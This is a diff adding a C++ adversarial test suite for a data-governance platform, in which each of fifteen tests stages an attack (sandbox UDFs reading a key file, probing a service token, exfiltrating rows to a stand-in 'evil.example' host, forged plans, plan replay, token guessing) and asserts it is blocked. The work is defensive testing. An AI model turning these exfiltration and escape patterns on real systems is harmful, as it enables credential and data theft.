@@ -1,0 +1,419 @@
+// "Break it, Fix it" adversarial corpus: every known way a tenant could try
+// to escape Lakeguard's governance, each driven end-to-end against the real
+// platform objects and each required to die with a *typed* status whose
+// retryability classification is consistent (security denials must never be
+// retried into the governance layer; resource exhaustion may be).
+//
+// Attack surface map (each TEST is one attack):
+//   sandbox escape      A1 file read, A2 env probe, A3 network egress,
+//                       A4 unbounded cpu
+//   forged plans        A5 pre-resolved scan w/o credentials (PV005),
+//                       A6 mask-stripped scan (PV001), A13 cross-owner UDF
+//                       nesting (PV003)
+//   replay              A7 prepared plan as another principal, A8 across
+//                       compute, A9 across a policy change (epoch race)
+//   confused deputy     A10 token scope escape + token guessing, A11
+//                       expired/revoked tokens, A14 write with read token
+//   side channels       A12 existence oracle, A15 denied queries vend
+//                       nothing (and audit records the truth)
+
+#include <gtest/gtest.h>
+
+#include <string>
+#include <utility>
+#include <vector>
+
+#include "common/retry.h"
+#include "core/platform.h"
+#include "engine/plan_verifier.h"
+#include "sandbox/host_env.h"
+#include "sandbox/sandbox.h"
+#include "sql/parser.h"
+#include "udf/builder.h"
+
+namespace lakeguard {
+namespace {
+
+/// Every blocked attack must carry: a failure (never kOk), the exact typed
+/// status code the subsystem documents, and a retryability classification
+/// that matches the code (denials non-retryable, exhaustion retryable).
+void ExpectBlocked(const Status& status, StatusCode code, bool retryable,
+                   const char* attack) {
+  EXPECT_FALSE(status.ok()) << attack << ": attack was NOT blocked";
+  EXPECT_EQ(status.code(), code) << attack << ": " << status;
+  EXPECT_EQ(IsTransientError(status), retryable)
+      << attack << ": wrong retryability for " << status;
+}
+
+class AttackTest : public ::testing::Test {
+ protected:
+  AttackTest() {
+    EXPECT_TRUE(platform_.AddUser("admin").ok());
+    EXPECT_TRUE(platform_.AddUser("alice").ok());  // victim principal
+    EXPECT_TRUE(platform_.AddUser("eve").ok());    // attacker principal
+    platform_.AddMetastoreAdmin("admin");
+    platform_.RegisterToken("tok-eve", "eve");
+    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
+    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());
+    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.hidden").ok());
+
+    cluster_ = platform_.CreateStandardCluster();
+    admin_ctx_ = *platform_.DirectContext(cluster_, "admin");
+    Must("CREATE TABLE main.s.sales (region STRING, amount BIGINT)");
+    Must("INSERT INTO main.s.sales VALUES ('US', 120), ('EU', 75)");
+    Must("ALTER TABLE main.s.sales SET ROW FILTER (region = 'US')");
+    Must("CREATE TABLE main.s.customers (name STRING, ssn STRING)");
+    Must("INSERT INTO main.s.customers VALUES ('ann', '123-45-6789')");
+    Must("ALTER TABLE main.s.customers ALTER COLUMN ssn SET MASK "
+         "(REDACT(ssn))");
+    Must("CREATE TABLE main.s.plain (x BIGINT)");
+    Must("INSERT INTO main.s.plain VALUES (1), (2)");
+    Must("CREATE TABLE main.hidden.secret (payload STRING)");
+    Must("GRANT USE CATALOG ON main TO eve");
+    Must("GRANT USE SCHEMA ON main.s TO eve");
+    Must("GRANT SELECT ON main.s.sales TO eve");
+    Must("GRANT SELECT ON main.s.plain TO eve");
+    eve_ctx_ = *platform_.DirectContext(cluster_, "eve");
+  }
+
+  void Must(const std::string& sql) {
+    auto result = cluster_->engine->ExecuteSql(sql, admin_ctx_);
+    ASSERT_TRUE(result.ok()) << sql << " -> " << result.status();
+  }
+
+  /// One-row int batch, the carrier payload for malicious UDF bytecode.
+  static RecordBatch OneRowBatch() {
+    TableBuilder builder(Schema({{"x", TypeKind::kInt64, true}}));
+    EXPECT_TRUE(builder.AppendRow({Value::Int(1)}).ok());
+    auto combined = builder.Build().Combine();
+    EXPECT_TRUE(combined.ok());
+    return *combined;
+  }
+
+  static UdfInvocation Invocation(UdfBytecode bytecode) {
+    UdfInvocation inv;
+    inv.bytecode = std::move(bytecode);
+    inv.result_name = "r";
+    inv.result_type = TypeKind::kString;
+    return inv;
+  }
+
+  LakeguardPlatform platform_;
+  ClusterHandle* cluster_ = nullptr;
+  ExecutionContext admin_ctx_;
+  ExecutionContext eve_ctx_;
+};
+
+/// Sandbox attacks run against a host environment salted with exactly the
+/// secrets a real worker holds: the metastore service token and its TLS key.
+class SandboxAttackTest : public AttackTest {
+ protected:
+  SandboxAttackTest() : clock_(0), env_(&clock_) {
+    env_.SetEnv("UC_SERVICE_TOKEN", "svc-secret-do-not-leak");
+    env_.WriteFile("/var/keys/metastore.pem", "PRIVATE KEY");
+  }
+
+  SimulatedClock clock_;
+  SimulatedHostEnvironment env_;
+};
+
+// ---- A1..A4: malicious LGVM UDFs (capability exfiltration) ------------------
+
+TEST_F(SandboxAttackTest, A1_UdfReadsWorkerFilesystem) {
+  Sandbox sandbox("sbx-eve", "eve", SandboxPolicy::LockedDown(), &env_,
+                  &clock_);
+  auto result = sandbox.ExecuteBatch(
+      OneRowBatch(),
+      {Invocation(canned::FileExfiltrationUdf("/var/keys/metastore.pem"))});
+  ExpectBlocked(result.status(), StatusCode::kPermissionDenied,
+                /*retryable=*/false, "A1 file read");
+  EXPECT_GE(sandbox.stats().denied_host_calls, 1u);
+}
+
+TEST_F(SandboxAttackTest, A2_UdfProbesServiceTokenEnv) {
+  Sandbox sandbox("sbx-eve", "eve", SandboxPolicy::LockedDown(), &env_,
+                  &clock_);
+  auto result = sandbox.ExecuteBatch(
+      OneRowBatch(), {Invocation(canned::EnvProbeUdf("UC_SERVICE_TOKEN"))});
+  ExpectBlocked(result.status(), StatusCode::kPermissionDenied,
+                /*retryable=*/false, "A2 env probe");
+}
+
+TEST_F(SandboxAttackTest, A3_UdfExfiltratesRowsOverNetwork) {
+  Sandbox sandbox("sbx-eve", "eve", SandboxPolicy::LockedDown(), &env_,
+                  &clock_);
+  UdfInvocation net =
+      Invocation(canned::NetworkExfiltrationUdf("http://evil.example/drop"));
+  net.arg_indices = {0};  // ships the column value in the request
+  auto result = sandbox.ExecuteBatch(OneRowBatch(), {net});
+  ExpectBlocked(result.status(), StatusCode::kPermissionDenied,
+                /*retryable=*/false, "A3 network exfiltration");
+  // The attempted drop was observed (and blocked) at the network namespace.
+  EXPECT_GE(env_.BlockedEgressCount(), 1u);
+}
+
+TEST_F(SandboxAttackTest, A4_UdfBurnsUnboundedCpu) {
+  SandboxPolicy policy = SandboxPolicy::LockedDown();
+  policy.fuel = 10'000;
+  Sandbox sandbox("sbx-eve", "eve", policy, &env_, &clock_);
+  auto result = sandbox.ExecuteBatch(
+      OneRowBatch(), {Invocation(canned::InfiniteLoopUdf())});
+  // Resource exhaustion IS retryable — it is a capacity signal, not a
+  // security denial (a retry may land under a larger interactive budget).
+  ExpectBlocked(result.status(), StatusCode::kResourceExhausted,
+                /*retryable=*/true, "A4 fuel runaway");
+}
+
+// ---- A5, A6, A13: forged plans against the Connect admission path -----------
+
+TEST_F(AttackTest, A5_ForgedScanWithoutCatalogResolutionDiesPV005) {
+  // main.s.plain carries NO policies, so a hand-crafted ResolvedScan leaf
+  // slips past the policy-region invariant (V1). The tightened credential
+  // invariant is what kills it: a locally enforced scan that never went
+  // through catalog resolution carries no vended token (V5, PV005).
+  PolicyInspection info = platform_.catalog().InspectPolicies(
+      "eve", eve_ctx_.compute, "main.s.plain");
+  ASSERT_TRUE(info.found);
+  auto eve = platform_.Connect(cluster_, "tok-eve");
+  ASSERT_TRUE(eve.ok()) << eve.status();
+  PlanPtr forged =
+      MakeResolvedScan("main.s.plain", info.storage_root, info.schema);
+  auto rows = eve->ExecutePlanRemote(forged);
+  ExpectBlocked(rows.status(), StatusCode::kFailedPrecondition,
+                /*retryable=*/false, "A5 forged credential-less scan");
+  EXPECT_NE(rows.status().message().find(PlanVerifier::kOverbroadCredential),
+            std::string::npos)
+      << rows.status();
+}
+
+TEST_F(AttackTest, A6_MaskStrippedForgedScanDiesPV001) {
+  // A bare ResolvedScan of the masked table — the classic "submit a
+  // pre-resolved plan and skip policy injection" move.
+  PolicyInspection info = platform_.catalog().InspectPolicies(
+      "eve", eve_ctx_.compute, "main.s.customers");
+  ASSERT_TRUE(info.found);
+  auto eve = platform_.Connect(cluster_, "tok-eve");
+  ASSERT_TRUE(eve.ok()) << eve.status();
+  PlanPtr forged =
+      MakeResolvedScan("main.s.customers", info.storage_root, info.schema);
+  auto rows = eve->ExecutePlanRemote(forged);
+  ExpectBlocked(rows.status(), StatusCode::kFailedPrecondition,
+                /*retryable=*/false, "A6 mask-stripped scan");
+  EXPECT_NE(rows.status().message().find(PlanVerifier::kPolicyMissing),
+            std::string::npos)
+      << rows.status();
+}
+
+TEST_F(AttackTest, A13_CrossTrustDomainUdfNestingDiesPV003) {
+  // Fusing bob's UDF output into alice's UDF input inside one Project would
+  // run two trust domains through one sandbox dispatch.
+  auto stmt = ParseSql("SELECT x FROM main.s.plain");
+  ASSERT_TRUE(stmt.ok());
+  Analyzer analyzer(&platform_.catalog(), eve_ctx_);
+  auto analysis = analyzer.Analyze(std::get<SelectStatement>(*stmt).plan);
+  ASSERT_TRUE(analysis.ok()) << analysis.status();
+  ExprPtr fused = Udf("main.s.f_alice", "alice", TypeKind::kInt64,
+                      {Udf("main.s.g_bob", "bob", TypeKind::kInt64,
+                           {ColIdx("x", 0)})});
+  PlanPtr forged = MakeProject(analysis->plan, {fused}, {"y"});
+  auto eve = platform_.Connect(cluster_, "tok-eve");
+  ASSERT_TRUE(eve.ok()) << eve.status();
+  auto rows = eve->ExecutePlanRemote(forged);
+  ExpectBlocked(rows.status(), StatusCode::kFailedPrecondition,
+                /*retryable=*/false, "A13 trust-domain fusion");
+  EXPECT_NE(rows.status().message().find(PlanVerifier::kTrustDomainFusion),
+            std::string::npos)
+      << rows.status();
+}
+
+// ---- A7, A8, A9: prepared-plan replay ---------------------------------------
+
+TEST_F(AttackTest, A7_PreparedPlanReplayedAsAnotherPrincipal) {
+  // admin prepares; eve grabs the prepared handle and tries to execute it —
+  // which would run with admin's vended credentials and admin's policy set.
+  auto prepared = cluster_->engine->PrepareSql(
+      "SELECT amount FROM main.s.sales", admin_ctx_);
+  ASSERT_TRUE(prepared.ok()) << prepared.status();
+  auto rows = cluster_->engine->ExecutePrepared(std::move(*prepared),
+                                                eve_ctx_);
+  ExpectBlocked(rows.status(), StatusCode::kPermissionDenied,
+                /*retryable=*/false, "A7 principal replay");
+  EXPECT_NE(rows.status().message().find("bound to principal"),
+            std::string::npos)
+      << rows.status();
+}
+
+TEST_F(AttackTest, A8_PreparedPlanReplayedAcrossCompute) {
+  // Same principal, different cluster: the privilege scope of the compute
+  // differs (downscoped clusters exist), so the binding is (user, compute).
+  ClusterHandle* other = platform_.CreateStandardCluster();
+  auto other_ctx = platform_.DirectContext(other, "eve");
+  ASSERT_TRUE(other_ctx.ok());
+  auto prepared = cluster_->engine->PrepareSql(
+      "SELECT amount FROM main.s.sales", eve_ctx_);
+  ASSERT_TRUE(prepared.ok()) << prepared.status();
+  auto rows = cluster_->engine->ExecutePrepared(std::move(*prepared),
+                                                *other_ctx);
+  ExpectBlocked(rows.status(), StatusCode::kPermissionDenied,
+                /*retryable=*/false, "A8 compute replay");
+}
+
+TEST_F(AttackTest, A9_PolicyChangeRaceForcesReverification) {
+  // Prepare under epoch N, change the row filter (epoch N+1), execute: the
+  // prepared plan still enforces the OLD filter. Execution must re-verify
+  // against current policy and reject with the verifier's typed status —
+  // never run stale enforcement.
+  auto prepared = cluster_->engine->PrepareSql(
+      "SELECT amount FROM main.s.sales", eve_ctx_);
+  ASSERT_TRUE(prepared.ok()) << prepared.status();
+  Must("ALTER TABLE main.s.sales SET ROW FILTER (region = 'EU')");
+  auto rows = cluster_->engine->ExecutePrepared(std::move(*prepared),
+                                                eve_ctx_);
+  ExpectBlocked(rows.status(), StatusCode::kFailedPrecondition,
+                /*retryable=*/false, "A9 policy-change race");
+  EXPECT_NE(rows.status().message().find("catalog changed since preparation"),
+            std::string::npos)
+      << rows.status();
+
+  // Control: an epoch bump that does NOT touch this plan's policy shape
+  // re-verifies cleanly and executes (staleness alone is not a denial).
+  auto again = cluster_->engine->PrepareSql(
+      "SELECT amount FROM main.s.sales", eve_ctx_);
+  ASSERT_TRUE(again.ok()) << again.status();
+  Must("CREATE TABLE main.s.unrelated (y BIGINT)");
+  auto stream = cluster_->engine->ExecutePrepared(std::move(*again),
+                                                  eve_ctx_);
+  ASSERT_TRUE(stream.ok()) << stream.status();
+}
+
+// ---- A10, A11, A14: credential confused-deputy probes -----------------------
+
+TEST_F(AttackTest, A10_TokenScopeEscapeAndTokenGuessing) {
+  CredentialAuthority& authority = platform_.authority();
+  StorageCredential cred = authority.Issue(
+      "alice", "c-1", {"s3://bucket/alice/*"}, /*allow_write=*/false,
+      /*ttl_micros=*/60'000'000);
+
+  // Deputy holds alice's token and asks for another tenant's path.
+  auto escape = authority.Authorize(
+      cred.token_id, "s3://bucket/victim/part-0.bin", StorageOp::kRead);
+  ExpectBlocked(escape.status(), StatusCode::kPermissionDenied,
+                /*retryable=*/false, "A10 scope escape");
+
+  // Wholly unknown token: unauthenticated, not merely denied.
+  auto unknown = authority.Authorize("tok-0000000000000000",
+                                     "s3://bucket/alice/x", StorageOp::kRead);
+  ExpectBlocked(unknown.status(), StatusCode::kUnauthenticated,
+                /*retryable=*/false, "A10 unknown token");
+
+  // Neighbor-guessing: token ids are hashed from a random seed, so the
+  // holder of one token cannot derive an adjacent one. Perturbing the last
+  // character must land on nothing.
+  std::string guess = cred.token_id;
+  guess.back() = guess.back() == 'a' ? 'b' : 'a';
+  auto guessed =
+      authority.Authorize(guess, "s3://bucket/alice/x", StorageOp::kRead);
+  ExpectBlocked(guessed.status(), StatusCode::kUnauthenticated,
+                /*retryable=*/false, "A10 token guess");
+  // And ids are opaque: fixed "tok-" prefix plus a 16-hex-digit digest.
+  EXPECT_EQ(cred.token_id.size(), 20u);
+  EXPECT_EQ(cred.token_id.rfind("tok-", 0), 0u);
+}
+
+TEST_F(AttackTest, A11_ExpiredAndRevokedTokensRejected) {
+  CredentialAuthority& authority = platform_.authority();
+  StorageCredential cred = authority.Issue(
+      "alice", "c-1", {"s3://bucket/alice/*"}, /*allow_write=*/false,
+      /*ttl_micros=*/1'000'000);
+  ASSERT_TRUE(authority
+                  .Authorize(cred.token_id, "s3://bucket/alice/x",
+                             StorageOp::kRead)
+                  .ok());
+  platform_.simulated_clock()->AdvanceMicros(2'000'000);
+  auto expired = authority.Authorize(cred.token_id, "s3://bucket/alice/x",
+                                     StorageOp::kRead);
+  ExpectBlocked(expired.status(), StatusCode::kUnauthenticated,
+                /*retryable=*/false, "A11 expired token");
+
+  StorageCredential fresh = authority.Issue(
+      "alice", "c-1", {"s3://bucket/alice/*"}, false, 60'000'000);
+  authority.Revoke(fresh.token_id);
+  auto revoked = authority.Authorize(fresh.token_id, "s3://bucket/alice/x",
+                                     StorageOp::kRead);
+  ExpectBlocked(revoked.status(), StatusCode::kUnauthenticated,
+                /*retryable=*/false, "A11 revoked token");
+}
+
+TEST_F(AttackTest, A14_WriteAttemptWithReadOnlyToken) {
+  CredentialAuthority& authority = platform_.authority();
+  StorageCredential cred = authority.Issue(
+      "eve", "c-1", {"s3://bucket/eve/*"}, /*allow_write=*/false,
+      /*ttl_micros=*/60'000'000);
+  auto write = authority.Authorize(cred.token_id, "s3://bucket/eve/out.bin",
+                                   StorageOp::kWrite);
+  ExpectBlocked(write.status(), StatusCode::kPermissionDenied,
+                /*retryable=*/false, "A14 write with read token");
+  // The same probe for delete: still a mutation, still denied.
+  auto del = authority.Authorize(cred.token_id, "s3://bucket/eve/out.bin",
+                                 StorageOp::kDelete);
+  ExpectBlocked(del.status(), StatusCode::kPermissionDenied,
+                /*retryable=*/false, "A14 delete with read token");
+}
+
+// ---- A12, A15: side channels ------------------------------------------------
+
+TEST_F(AttackTest, A12_ExistenceOracleClosed) {
+  // eve has no USE SCHEMA on main.hidden: probing a real secret table and a
+  // fabricated one must be indistinguishable — same code, same message
+  // shape. (Before this fix, "permission denied" vs "not found" leaked the
+  // metastore's table inventory to unprivileged principals.)
+  auto real = platform_.catalog().ResolveRelation("eve", eve_ctx_.compute,
+                                                  "main.hidden.secret");
+  auto fake = platform_.catalog().ResolveRelation("eve", eve_ctx_.compute,
+                                                  "main.hidden.ghost");
+  ExpectBlocked(real.status(), StatusCode::kNotFound, /*retryable=*/false,
+                "A12 probe existing");
+  ExpectBlocked(fake.status(), StatusCode::kNotFound, /*retryable=*/false,
+                "A12 probe missing");
+  // Byte-identical messages modulo the probed name.
+  std::string real_msg = real.status().message();
+  std::string fake_msg = fake.status().message();
+  size_t pos;
+  while ((pos = real_msg.find("main.hidden.secret")) != std::string::npos) {
+    real_msg.replace(pos, 18, "X");
+  }
+  while ((pos = fake_msg.find("main.hidden.ghost")) != std::string::npos) {
+    fake_msg.replace(pos, 17, "X");
+  }
+  EXPECT_EQ(real_msg, fake_msg);
+
+  // The same rule holds for functions.
+  auto fn_real = platform_.catalog().ResolveFunction("eve", eve_ctx_.compute,
+                                                     "main.hidden.fn");
+  EXPECT_TRUE(fn_real.status().IsNotFound()) << fn_real.status();
+}
+
+TEST_F(AttackTest, A15_DeniedQueriesVendNothingAndAuditTruth) {
+  // eve can see main.s but holds no SELECT on customers. The denial must be
+  // a clean PermissionDenied (namespace IS visible), must vend zero storage
+  // credentials, and the audit trail must record the denial truthfully.
+  size_t tokens_before = platform_.authority().ActiveTokenCount();
+  size_t denied_before = platform_.catalog().audit().DeniedCount();
+  auto res = platform_.catalog().ResolveRelation("eve", eve_ctx_.compute,
+                                                 "main.s.customers");
+  ExpectBlocked(res.status(), StatusCode::kPermissionDenied,
+                /*retryable=*/false, "A15 ungranted select");
+  EXPECT_EQ(platform_.authority().ActiveTokenCount(), tokens_before)
+      << "a denied resolution vended a credential";
+  EXPECT_EQ(platform_.catalog().audit().DeniedCount(), denied_before + 1);
+  // The audit record names the attacker and the securable.
+  bool recorded = false;
+  for (const AuditEvent& e :
+       platform_.catalog().audit().ForSecurable("main.s.customers")) {
+    if (e.principal == "eve" && !e.allowed) recorded = true;
+  }
+  EXPECT_TRUE(recorded);
+}
+
+}  // namespace
+}  // namespace lakeguard
